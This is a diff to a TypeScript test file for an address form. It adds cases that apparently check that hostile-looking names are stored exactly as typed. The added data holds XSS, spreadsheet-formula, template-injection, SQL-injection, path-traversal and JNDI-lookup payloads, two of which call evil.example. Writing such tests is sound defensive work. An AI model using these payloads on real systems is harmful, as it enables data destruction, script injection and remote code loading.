@@ -56,10 +56,28 @@ export const addressCases: AddressCase[] = [
     stored('fullName', 'Ali\u00A0\u2003\u3000\uFEFFKhan', 'Ali Khan'),
     stored('fullName', ' \n Ali Khan \t ', 'Ali Khan'),
   ]),
-  ...labelled('A82 A84 A86', [
-    stored('fullName', "D'Souza-O\u2019Neil", "D'Souza-O\u2019Neil"),
-    stored('fullName', '<b>Ali</b>', '<b>Ali</b>'),
-    stored('fullName', '=1+1', '=1+1'),
+  ...unchanged('A82', [
+    "D'Souza-O\u2019Neil",
+    '<b>Ali</b>',
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+  ]),
+  ...unchanged('A83', [
+    '"><svg onload=alert(1)>',
+    "'-alert(1)-'",
+    '</textarea><script>alert(1)</script>',
+    'javascript:alert(1)',
+  ]),
+  ...unchanged('A84', ['=1+1', '=HYPERLINK("https://evil.example","x")', '@SUM(A1:A9)', '-2+3']),
+  ...unchanged('A85', ['{{7*7}} %s%n <%= 1 %> $&', '#{7*7}', `\${jndi:ldap://evil.example/a}`]),
+  ...unchanged('A86', [
+    "'; drop table public.orders; --",
+    "' or '1'='1",
+    '$$; select 1; $$',
+    '\\u202e \\n \\" \\x00',
+    '../../etc/passwd',
+    'null',
+    '🌿🧴 عائشہ خان',
   ]),
   ...labelled('A75 A87', [
     ...(['fullName', 'city', 'state', 'country'] as const).flatMap((field) => limits(field, 100)),
@@ -100,6 +118,14 @@ type Unlabelled = Omit<AddressCase, 'label'>
 
 function labelled(label: string, cases: Unlabelled[]): AddressCase[] {
   return cases.map((addressCase) => ({ label, ...addressCase }))
+}
+
+/** Texts that are hostile somewhere else, saved as they are typed. */
+function unchanged(label: string, texts: string[]): AddressCase[] {
+  return labelled(
+    label,
+    texts.map((text) => stored('fullName', text, text)),
+  )
 }
 
 /** Characters are counted as code points. */
